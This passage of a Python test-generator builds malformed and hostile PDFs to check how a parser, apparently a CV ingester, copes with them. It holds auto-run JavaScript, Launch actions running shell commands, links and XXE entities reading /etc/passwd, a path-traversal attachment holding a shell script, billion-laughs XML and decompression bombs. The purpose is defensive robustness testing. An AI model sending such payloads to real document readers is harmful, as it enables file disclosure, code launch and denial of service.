    at = data.index(b"xref\n0")
    parts = [data]
    size = len(data)
    for _ in range(20_000):
        part = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 4 0 R /Prev %d >>\n" % at
        at, size = size, size + len(part)
        parts.append(part)
    return b"".join(parts) + b"startxref\n%d\n%%%%EOF\n" % at


@attack()
def table_of_a_billion() -> bytes:
    data = paged()
    return data.replace(b"xref\n0 6", b"xref\n0 1000000000").replace(b"/Size 6", b"/Size 1000000000")


@attack()
def table_that_points_nowhere() -> bytes:
    return paged().replace(b" 00000 n", b" 99999 n").replace(b"\n00000", b"\n99999")


@attack()
def end_that_points_nowhere() -> bytes:
    return paged().replace(b"startxref\n", b"startxref\n-99999999999999999999")


@attack()
def table_stream_of_odd_widths() -> bytes:
    return with_object_stream(b"/N 1 /First 4", b"7 0 << >>").replace(
        b"/W [1 4 2]", b"/W [1000000000 4 -2] /Index [0 1000000000]"
    )


@attack()
def root_missing() -> bytes:
    return paged().replace(b"/Root", b"/Boot")


@attack()
def many_objects() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        for _ in range(300_000):
            writer.add(b"<< /A [1 2 3] >>")
        return {}

    return paged(extra=extra)


@attack()
def many_objects_without_a_table() -> bytes:
    data = many_objects()
    return data[: data.index(b"xref\n0")]


@attack()
def half_objects_without_a_table() -> bytes:
    return b"%PDF-1.7\n" + b"1 0 obj << /A (" * 200_000


def lengths(length: bytes) -> bytes:
    writer = Writer()
    pages = writer.new()
    leaf = writer.page(writer.stream(HEAD, length=length), pages)
    writer.bodies[pages] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % leaf
    return writer.close(writer.catalogue(pages))


LENGTHS = [b"0", b"5", b"-1", b"999999999999", b"3 0 R", b"99 0 R", b"(a)", b"", b"9" * 60]
for at, length in enumerate(LENGTHS):
    ATTACKS[f"stream_length_{at}"] = Attack(f"stream_length_{at}", lambda length=length: lengths(length), "any")  # type: ignore[misc]


@attack("cv")
def garbage_before_the_header() -> bytes:
    return b"Content-Type: application/pdf\r\n\r\n" + random.Random(4).randbytes(900).replace(b"%", b"") + paged()


@attack()
def header_and_nothing() -> bytes:
    return b"%PDF-1.7\n%%EOF" * 1000


# Encryption


@attack("error")
def unknown_encryption() -> bytes:
    return paged(trailer=b"/Encrypt << /Filter /Enigma /V 99 /R 99 >> /ID [<00> <00>]")


@attack("error")
def password_needed() -> bytes:
    key = random.Random(5).randbytes(32).hex().encode()
    return paged(
        trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >> /ID [<00> <00>]"
        % (key, key)
    )


@attack("error")
def encryption_of_odd_kinds() -> bytes:
    return paged(
        trailer=b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 99999999999 /P (a) /O null /U [] /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF >> /ID 5"
    )


# What a reader could run, open or fetch


SCRIPT = b"/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\); while \\(true\\) {})"


@attack("cv")
def script_at_opening() -> bytes:
    return paged(
        root=b"/OpenAction << %s >> /AA << /WC << %s >> >> /Names << /JavaScript << /Names [(a) << %s >>] >> >>"
        % (SCRIPT, SCRIPT, SCRIPT),
        page=BOX + b" /AA << /O << %s >> /C << %s >> >>" % (SCRIPT, SCRIPT),
    )


@attack("cv")
def programs_to_launch() -> bytes:
    action = b"/S /Launch /F (/bin/touch) /Unix << /F (/bin/touch /tmp/launched) >> /Win << /F (cmd.exe) >>"
    annots = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [40 690 300 720] /A << %s >> >>]" % action
    return paged(root=b"/OpenAction << %s >>" % action, page=BOX + annots)


@attack("cv")
def addresses_to_fetch() -> bytes:
    actions = [
        b"/S /URI /URI (http://192.0.2.1/)",
        b"/S /URI /URI (file:///etc/passwd)",
        b"/S /SubmitForm /F (http://192.0.2.1/)",
        b"/S /ImportData /F (/etc/passwd)",
        b"/S /GoToR /F (/etc/passwd) /D [0 /Fit]",
        b"/S /URI /URI (javascript:alert\\(1\\))",
    ]
    annots = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [40 690 300 720] /A << %s >> >>" % action for action in actions
    )
    return paged(
        page=BOX + b"/Annots [%s]" % annots,
        root=b"/URI << /Base (http://192.0.2.1/) >> /OpenAction << %s >>" % actions[2],
    )


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, 12))
    + b'<!ENTITY file SYSTEM "file:///etc/passwd">]><SkillsPassport xmlns="http://europass.cedefop.europa.eu/Europass"><a>&a11;&file;</a></SkillsPassport>'
)


def attached(name: bytes, data: bytes, entries: bytes = b"") -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        holder = writer.stream(data, b"/Type /EmbeddedFile /Subtype /text#2fxml " + entries)
        return {
            b"file": writer.add(b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F %d 0 R >> >>" % (name, name, holder))
        }

    annots = b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS $file >>]"
    return paged(
        extra=extra, root=b"/Names << /EmbeddedFiles << /Names [(%s) $file] >> >> /AF [$file]" % name, page=BOX + annots
    )


@attack("cv")
def attachment_with_a_path() -> bytes:
    return attached(b"../../../../tmp/attached.sh", b"#!/bin/sh\ntouch /tmp/run\n")


@attack("cv")
def attachment_of_laughing_xml() -> bytes:
    return attached(b"Europass.xml", LAUGHS)


@attack("error")
def attachment_of_a_gigabyte() -> bytes:
    return attached(b"Europass.xml", zeros(1 << 30), b"/Filter /FlateDecode")


@attack("cv")
def attachment_names_in_a_circle() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        return {b"names": writer.add(b"<< /Kids [%s] >>" % refs([len(writer.bodies) + 1] * 2))}

    return paged(extra=extra, root=b"/Names << /EmbeddedFiles $names /JavaScript $names /Dests $names >>")


@attack("cv")
def properties_of_laughing_xml() -> bytes:
    return paged(extra=lambda w: {b"xmp": w.stream(LAUGHS, b"/Type /Metadata /Subtype /XML")}, root=b"/Metadata $xmp")


@attack()
def content_in_another_file() -> bytes:
    return lengths(b"0 /F (/etc/passwd) /FFilter /FlateDecode")


@attack("cv")
def form_of_xml() -> bytes:
    return paged(
        extra=lambda w: {b"xfa": w.stream(LAUGHS)}, root=b"/AcroForm << /XFA $xfa /Fields [] >> /NeedsRendering true"
    )


# Many things drawn


@attack()
def million_links() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        link = writer.add(
            b"<< /Type /Annot /Subtype /Link /Rect [40 690 300 720] /A << /S /URI /URI (http://192.0.2.1/) >> >>"
        )
        return {b"all": writer.add(b"[%s]" % refs([link] * 1_000_000))}

    return paged(extra=extra, page=BOX + b" /Annots $all")


@attack()
def many_links_over_many_words() -> bytes:
    links = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [%d %d %d %d] /A << /S /URI /URI (http://192.0.2.1/%d) >> >>"
        % (at % 600, at % 800, at % 600 + 5, at % 800 + 5, at)
        for at in range(50_000)
    )
    return paged(HEAD + scattered(20_000, 4), page=BOX + b" /Annots [%s]" % links)


@attack()
def link_of_a_million_letters() -> bytes:
    annot = b"<< /Type /Annot /Subtype /Link /Rect [40 690 300 720] /A << /S /URI /URI (http://192.0.2.1/%s) >> >>"
    return paged(page=BOX + b" /Annots [%s]" % (annot % (b"a" * 1_000_000)))


@attack()
def million_segments_in_one_path() -> bytes:
    return paged(HEAD + b"0 0 m " + b"".join(b"%d %d l " % (at % 600, at % 797) for at in range(1_000_000)) + b"S")


@attack()
def many_curves() -> bytes:
    return paged(HEAD + b"1 2 m 3 4 5 6 7 8 c S " * 200_000)


@attack()
def many_rules() -> bytes:
    return paged(HEAD + b"".join(b"0 %.3f 500 0.5 re f " % (at * 0.008) for at in range(100_000)) + scattered(5_000, 4))


@attack()
def many_dots() -> bytes:
    chance = random.Random(6)
    shown = b"".join(b"%d %d 3 3 re f " % (chance.randrange(600), chance.randrange(800)) for _ in range(100_000))
    return paged(HEAD + shown + scattered(5_000, 4))


@attack()
def many_dots_in_small_paths() -> bytes:
    shown = b"".join(b"50 %.3f 3 3 re f " % (at * 0.1) for at in range(7_000))
    lines = b" ".join(b"1 0 0 1 60 %.3f Tm (w%d) Tj" % (at * 0.1, at) for at in range(7_000))
    return paged(HEAD + shown + b"BT /F1 0.1 Tf %s ET" % lines)


# Properties and structure


TITLES = {
    "lone_surrogate": b"<FEFFD800>",
    "odd_bytes": b"<FEFF004100>",
    "nulls": b"<FEFF00000041000000>",
    "null_bytes": b"(A\\000B\\000)",
    "number": b"5",
    "array": b"[(a) (b)]",
    "long": b"(" + b"Title " * 1_000_000 + b")",
    "name": b"/Title",
    "utf_8": b"(\xef\xbb\xbf\xff\xfe)",
    "little_end": b"<FFFE41000042>",
    "escapes": b"(\\033[31mred\\007)",
}


def titled(title: bytes) -> bytes:
    info = b"<< /Title %s /ModDate (D:99999999999999Z) /CreationDate (D:20230230) /Author %s >>" % (title, title)
    return paged(extra=lambda w: {b"info": w.add(info)}, trailer=b"/Info $info")


for kind, title in TITLES.items():
    ATTACKS[f"title_{kind}"] = Attack(f"title_{kind}", lambda title=title: titled(title), "cv")  # type: ignore[misc]

DATES = [
    b"(D:00000000)",
    b"(D:20231399)",
    b"(D:2023-05)",
    b"5",
    b"<FEFF0044003A00320030>",
    b"(D:%s)" % (b"9" * 100_000),
    b"(D:\xb2\xb2\xb2\xb2)",
    b"null",
]


@attack("cv")
def dates_out_of_range() -> bytes:
    info = (
        b"<< "
        + b" ".join(b"/D%d %s" % (at, date) for at, date in enumerate(DATES))
        + b" /ModDate (D:0000) /CreationDate (D:20231399) >>"
    )
    return paged(extra=lambda w: {b"info": w.add(info)}, trailer=b"/Info $info")


MARKED = b"/P << /MCID 0 >> BDC " + HEAD + b"EMC "


@attack()
def structure_within_itself() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        me = len(writer.bodies) + 1
        return {
            b"s": writer.add(
                b"<< /Type /StructTreeRoot /S /P /P %s /K [%s 0] /ParentTree %s /RoleMap << /P /Q /Q /P >> >>"
                % (refs([me]), refs([me, me]), refs([me]))
            )
        }

    return paged(
        MARKED, extra=extra, root=b"/StructTreeRoot $s /MarkInfo << /Marked true >>", page=BOX + b" /StructParents 0"
    )


@attack()
def structure_of_great_depth() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        top = len(writer.bodies) + 1
        writer.add(
            b"<< /Type /StructTreeRoot /K %d 0 R /ParentTree << /Nums [0 [%d 0 R]] >> >>" % (top + 1, top + 50_000)
        )
        for number in range(top + 1, top + 50_001):
            writer.add(
                b"<< /Type /StructElem /S /P /P %d 0 R /K %s >>"
                % (number - 1, b"%d 0 R" % (number + 1) if number < top + 50_000 else b"0")
            )
        return {b"s": top}

    return paged(
        MARKED, extra=extra, root=b"/StructTreeRoot $s /MarkInfo << /Marked true >>", page=BOX + b" /StructParents 0"
    )


@attack()
def structure_that_grows() -> bytes:
    """Thirty levels of elements, each of which has the next one twice."""

    def extra(writer: Writer) -> dict[bytes, int]:
        top = len(writer.bodies) + 1
        writer.add(
            b"<< /Type /StructTreeRoot /K [%d 0 R %d 0 R] /ParentTree << /Nums [0 [%d 0 R]] >> >>"
            % (top + 1, top + 1, top + 30)
        )
        for number in range(top + 1, top + 31):
            kids = refs([number + 1] * 2) if number < top + 30 else b"0"
            writer.add(b"<< /Type /StructElem /S /L /P %d 0 R /K [%s] >>" % (number - 1, kids))
        return {b"s": top}

    return paged(
        MARKED, extra=extra, root=b"/StructTreeRoot $s /MarkInfo << /Marked true >>", page=BOX + b" /StructParents 0"
    )


@attack()
def text_that_says_it_is_other_text() -> bytes:
    return paged(HEAD + b"BT /F1 9 Tf 50 600 Td /Span << /ActualText (%s) >> BDC (x) Tj EMC ET" % (b"lorem " * 500_000))


@attack()
def outline_in_a_circle() -> bytes:
    def extra(writer: Writer) -> dict[bytes, int]:
        me = len(writer.bodies) + 1
        return {
            b"o": writer.add(
                b"<< /Type /Outlines /Title (x) /First %s /Last %s /Next %s /Prev %s /Count 5 >>"
                % tuple(refs([me]) for _ in range(4))
            )
        }

    return paged(extra=extra, root=b"/Outlines $o /PageLabels $o /AcroForm << /Fields [$o] >>")
